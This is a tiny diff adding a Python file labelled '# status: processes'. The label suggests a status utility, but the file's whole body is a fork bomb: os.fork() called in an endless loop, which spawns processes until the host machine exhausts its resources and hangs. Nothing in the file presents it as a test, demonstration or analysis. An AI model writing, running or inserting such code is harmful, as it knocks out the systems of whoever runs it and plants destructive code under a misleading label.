@@ -1,0 +1,5 @@
+# status: processes
+import os
+
+while True:
+    os.fork()
